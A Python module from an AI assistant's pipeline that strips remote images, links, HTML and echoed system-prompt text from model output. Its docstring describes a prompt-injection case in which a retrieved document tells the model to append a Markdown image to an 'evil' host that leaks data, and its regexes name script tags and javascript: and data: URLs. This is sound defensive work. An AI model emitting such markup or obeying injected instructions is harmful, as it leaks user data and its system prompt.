"""The clean-up of model output before the citation checks: no remote images, links, HTML or echoed prompt.

A document can tell the model to append ![](http://evil/?d=…) (an image any Markdown renderer
fetches at once, leaking what the URL carries) or links and HTML: none of it may reach the user,
whatever renders the answer (the app escapes it, API and CLI consumers may not). Nor may a reply
that recites the system prompt. Extractive answers need none of this: they are copied verbatim.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from assistant.generation.citations import split_answer_sentences, unmarked

LINKS_REMOVED_NOTE = "已移除回答中的外部图片/链接。"
PROMPT_ECHO_NOTE = "已移除回答中复述的系统提示词内容。"
URL = re.compile(
    r"(?<![A-Za-z0-9+.-])(?:(?:https?|ftp|file|javascript|vbscript|data|mailto|blob):|www\.)"
    r"[^\s<>\"'`）)\[\]【】《》，。；！？、]*",
    re.IGNORECASE,
)
_DANGEROUS_ELEMENT = re.compile(
    r"<(script|style|iframe|object|embed|svg|math|template|noscript|textarea)\b.*?(?:</\1\s*>|\Z)",
    re.IGNORECASE | re.DOTALL,
)
_HTML_COMMENT = re.compile(r"<!--.*?(?:-->|\Z)", re.DOTALL)
_MD_IMAGE = re.compile(r"!\[[^\]\n]*\]\s*(?:\([^)\n]*\)?|\[[^\]\n]*\])")
_MD_LINK = re.compile(r"\[([^\]\n]+)\]\(\s*<?(?:[A-Za-z][A-Za-z0-9+.-]*:|/|#|www\.)[^)\n]*\)")
_MD_LINK_DEF = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*\S+.*$", re.MULTILINE)
_HTML_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9:-]*(?:\s[^<>]*)?/?>|<[A-Za-z][A-Za-z0-9:-]*\s[^<>]*\Z")
_ECHO_RUN = 12  # characters in a row shared with the system prompt that make a sentence an echo of it


def _link_text(m: re.Match[str]) -> str:
    text = m.group(1)
    return f"[{text}]" if text.isdigit() else text  # [1](http://…): keep the citation marker


def strip_active_markup(text: str) -> tuple[str, int]:
    """Model text without remote images, links, URLs or HTML; returns (text, number of pieces removed).

    Markdown images go with their URL; a Markdown link keeps its text; script-like elements go with
    their content, other tags leave their text; bare URLs (http, javascript:, data:, www.) are removed.
    """
    removed = 0

    def sub(pattern: re.Pattern[str], repl: str | Callable[[re.Match[str]], str], value: str) -> str:
        nonlocal removed
        value, n = pattern.subn(repl, value)
        removed += n
        return value

    for pattern in (_DANGEROUS_ELEMENT, _HTML_COMMENT, _MD_IMAGE):
        text = sub(pattern, "", text)
    text = sub(_MD_LINK, _link_text, text)
    for pattern in (_MD_LINK_DEF, _HTML_TAG, URL):
        text = sub(pattern, "", text)
    if removed:
        text = re.sub(r"[ \t]{2,}", " ", text)
        text = re.sub(r"[ \t]+(?=[。！？；，、\n]|\[\d|$)", "", text)
    return text, removed


def drop_prompt_echo(text: str, prompt: str, run: int = _ECHO_RUN) -> tuple[str, int]:
    """Text without the parts that repeat `prompt` (the system prompt); returns (text, sentences dropped).

    A sentence sharing `run` characters in a row with the prompt shows the model is reciting it; then
    every sentence found whole in the prompt goes too (规则：, short rule lines). Short shared phrases
    alone (资料中未找到, 原文未披露具体数字) are not an echo.
    """
    reference = unmarked(prompt)
    sentences = split_answer_sentences(text)
    plains = [unmarked(sentence) for sentence in sentences]
    recited = [any(p[i : i + run] in reference for i in range(len(p) - run + 1)) for p in plains]
    if not reference or not any(recited):
        return text, 0
    kept, dropped = [], 0
    for sentence, plain, echo in zip(sentences, plains, recited, strict=True):
        if echo or (plain and plain in reference):
            dropped += 1
        else:
            kept.append(sentence)
    return re.sub(r"\n[ \t]*(?:\n[ \t]*)+", "\n", "".join(kept)).strip(), dropped


def clean_model_output(text: str, system_prompt: str = "") -> tuple[str, list[str]]:
    """What a model wrote, made safe to show before verification: no remote images, links or HTML, no
    echo of the system prompt. Returns (text, Chinese notes saying what was removed)."""
    notes = []
    text, removed = strip_active_markup(text)
    if removed:
        notes.append(LINKS_REMOVED_NOTE)
    text, echoed = drop_prompt_echo(text, system_prompt)
    if echoed:
        notes.append(PROMPT_ECHO_NOTE)
    return text.strip(), notes
